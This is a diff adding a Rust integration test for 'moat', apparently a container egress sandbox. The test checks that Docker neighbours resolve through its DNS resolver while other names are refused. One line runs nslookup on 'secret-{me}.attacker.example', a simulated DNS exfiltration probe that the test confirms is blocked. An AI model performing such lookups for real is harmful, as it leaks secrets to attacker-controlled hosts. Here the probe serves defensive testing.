@@ -362,3 +362,165 @@ fn docker_network_container_pair_shares_the_resolver() {
     let _ = std::fs::remove_file(POLICY);
     assert_network_gone(&format!("moat-egpair-{me}"));
 }
+
+/// T18, issue 18 item 2 for every docker user: with an address-only
+/// allowlist (the default policy's kind; events of refused connections
+/// off, so only the neighbours' names register the container), a moat
+/// container on a user-defined network resolves its neighbours' name and
+/// alias through `127.0.0.11` (moat's resolver answers them from
+/// dockerd's record), a made-up name is REFUSED and never reaches the
+/// upstream, a container on the default bridge is not registered with
+/// the resolver at all, and nothing of either is left.
+#[test]
+fn address_only_containers_resolve_docker_neighbours_and_nothing_else() {
+    let rt = registered_egress_dns_runtime();
+    let me = std::process::id();
+    let (net, gw) = test_network(&format!("moat-egaddr-{me}"));
+    std::fs::write(
+        POLICY,
+        format!("[egress]\nallow = [\"{SUBNET}\"]\nconnection_events = false\n"),
+    )
+    .unwrap();
+    let upstream = Server::dns(
+        Path::new("/proc/self/ns/net"),
+        SocketAddr::new(gw.into(), 53),
+        ANSWER,
+    );
+    let db = format!("moat-egaddr-db-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &db,
+        "--network",
+        &net.0,
+        "--network-alias",
+        "pg",
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    assert!(started.ok(), "docker run {db}: {}", started.describe());
+    let ip = docker(&[
+        "inspect",
+        "--format",
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+        &db,
+    ]);
+    let ip: Ipv4Addr = ip
+        .stdout
+        .trim()
+        .parse()
+        .unwrap_or_else(|_| panic!("no address for {db}: {}", ip.describe()));
+
+    // B: on the user-defined network, under moat, the default kind of policy.
+    let b = format!("moat-egaddr-b-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &b,
+        "--runtime",
+        &rt,
+        "--network",
+        &net.0,
+        "--dns",
+        &gw.to_string(),
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    assert!(started.ok(), "docker run {b}: {}", started.describe());
+    let b_id = started.stdout.trim().to_string();
+    let registration = registration_of(&b_id)
+        .unwrap_or_else(|| panic!("{b} is not registered with moat's resolver"));
+    assert_eq!(
+        registration["docker_container"].as_str(),
+        Some(b_id.as_str()),
+        "{registration}"
+    );
+    assert_eq!(
+        registration["names"],
+        serde_json::json!([]),
+        "{registration}"
+    );
+    let secret = format!("secret-{me}.attacker.example");
+    let script = format!(
+        "timeout 10 nslookup {db} 2>&1; echo NS1=$?; timeout 10 nslookup pg 2>&1; echo NS2=$?; timeout 10 nslookup {secret} 2>&1; echo NS3=$?"
+    );
+    let out = docker(&["exec", &b, "sh", "-c", &script]).combined();
+    let want = format!("Address: {ip}");
+    let answers = out.lines().filter(|l| l.trim() == want).count();
+    assert!(
+        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
+        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
+    );
+    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
+    assert!(
+        out.contains("REFUSED"),
+        "the made-up name was not REFUSED:\n{out}"
+    );
+    assert!(!out.contains(&ANSWER.to_string()), "{out}");
+
+    // C: on the default bridge: no resolver for it.
+    let c = format!("moat-egaddr-c-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &c,
+        "--runtime",
+        &rt,
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    let c_id = started.stdout.trim().to_string();
+    assert!(started.ok(), "docker run {c}: {}", started.describe());
+    assert!(
+        registration_of(&c_id).is_none(),
+        "{c} on the default bridge was registered with moat's resolver"
+    );
+    let _ = docker(&["rm", "-f", &c]);
+
+    std::thread::sleep(Duration::from_millis(300));
+    for name in [secret.as_str(), db.as_str(), "pg"] {
+        assert!(
+            !upstream.asked(name),
+            "{name} reached the upstream under {rt}:\n{out}"
+        );
+    }
+    let _ = docker(&["rm", "-f", &b]);
+    // Its registration goes with its delete.
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    while registration_of(&b_id).is_some() && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(
+        registration_of(&b_id).is_none(),
+        "{b}'s registration is left"
+    );
+
+    drop(upstream);
+    drop(net);
+    let _ = std::fs::remove_file(POLICY);
+    assert_network_gone(&format!("moat-egaddr-{me}"));
+}
+
+/// The resolver registration of moat container `id` under any state root
+/// docker's runtimes use (`/run/docker/runtime-runc/moby`), as
+/// JSON.
+fn registration_of(id: &str) -> Option<serde_json::Value> {
+    if id.is_empty() {
+        return None;
+    }
+    // docker 20.10 hands its runtimes this root (no link in it here).
+    let roots = ["/run/docker/runtime-runc/moby", "/run/containerd/runc/moby"];
+    roots.iter().find_map(|root| {
+        let path = moat::resolver::dir(Path::new(root))
+            .join("containers")
+            .join(id);
+        let text = std::fs::read(path).ok()?;
+        serde_json::from_slice(&text).ok()
+    })
+}
